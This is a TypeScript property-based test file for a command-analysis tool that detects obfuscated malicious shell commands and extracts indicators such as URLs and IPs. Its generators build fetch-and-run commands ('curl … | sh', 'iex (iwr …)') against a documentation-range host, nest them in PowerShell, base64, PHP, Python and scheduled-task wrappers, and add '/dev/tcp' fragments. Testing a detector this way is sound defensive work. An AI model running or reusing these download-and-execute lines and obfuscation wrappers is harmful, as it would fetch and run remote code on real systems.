/**
 * Issue 21's hostile inputs for the layered analysis, in the domain (the worker test drives the same
 * through the thread): deep nesting of interpreters and encodings, 1 MB lines, shapes that make
 * regexes backtrack. Never throws, never past the limits, never over 250 ms.
 */
import fc from 'fast-check';
import { zlibInflate } from '../../../src/adapters/analysis/inflate';
import { analyzeCommand, MAX_FINDINGS, MAX_IOCS_PER_KIND } from '../../../src/domain/command-analysis';

const MB = 1024 * 1024;
const b64 = (s: string) => Buffer.from(s).toString('base64');
const utf16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
// An empty unit (fast-check can draw one) fills with spaces instead of repeating nothing Infinity times.
const fill = (unit: string, size: number) => (unit || ' ').repeat(Math.ceil(size / (unit || ' ').length)).slice(0, size);

/** One nesting step: the script wrapped in another interpreter or encoding. */
const wrap = fc.constantFrom<(s: string) => string>(
  (s) => `cmd /c "${s}"`,
  (s) => `powershell -enc ${utf16(s)}`,
  (s) => `bash -c '${s}'`,
  (s) => `echo ${b64(s)} | base64 -d | sh`,
  (s) => `php -r 'eval(base64_decode("${b64(s)}"));'`,
  (s) => `python3 -c "import base64;exec(base64.b64decode('${b64(s)}'))"`,
  (s) => `powershell -c "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64(s)}')))"`,
  (s) => `schtasks /create /tn x /tr "${s}"`,
);
const piece = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.constantFrom("'a'+", '"{0}" -f ', '[char[]](', '$env:comspec[4,', '-join ', '^', '`', '"', "'", '$(', '(', '| sh ', '/dev/tcp/1.2.3.4/', 'curl http://x ', '%41', '::', 'a.', '1.'),
);
const hostile = fc.oneof(
  fc.tuple(fc.array(wrap, { minLength: 1, maxLength: 12 }), fc.constantFrom('curl -s http://203.0.113.9/x | sh', 'iex (iwr http://203.0.113.9/x)')).map(([ws, core]) => ws.reduce<string>((s, w) => w(s), core)),
  fc.tuple(fc.array(piece, { minLength: 1, maxLength: 20 }), fc.constantFrom(64 * 1024, MB)).map(([ps, size]) => fill(ps.join(''), size)),
);

describe('layered analysis on hostile input', () => {
  test('never throws, stays within the limits and 250 ms', () => {
    analyzeCommand('warm', { inflate: zlibInflate });
    fc.assert(
      fc.property(hostile, (c) => {
        const start = performance.now();
        const r = analyzeCommand(c, { inflate: zlibInflate });
        expect(performance.now() - start).toBeLessThan(250);
        expect(r.findings.length).toBeLessThanOrEqual(MAX_FINDINGS);
        for (const kind of [r.iocs.ips, r.iocs.urls, r.iocs.domains, r.iocs.hashes]) expect(kind.length).toBeLessThanOrEqual(MAX_IOCS_PER_KIND);
      }),
      { numRuns: 60 },
    );
  });

  test('a download wrapped in a few layers is still found, named by its layer', () => {
    const core = 'curl -s http://203.0.113.9/x | sh';
    const wrapped = `cmd /c "powershell -enc ${utf16(`bash -c '${core}'`)}"`;
    const r = analyzeCommand(wrapped, { inflate: zlibInflate });
    expect(r.findings.find((f) => f.id === 'download-and-execute')?.layer).toBe('cmd › cmd › powershell › base64 › sh');
    expect(r.iocs.urls).toEqual(['http://203.0.113.9/x']);
  });
});
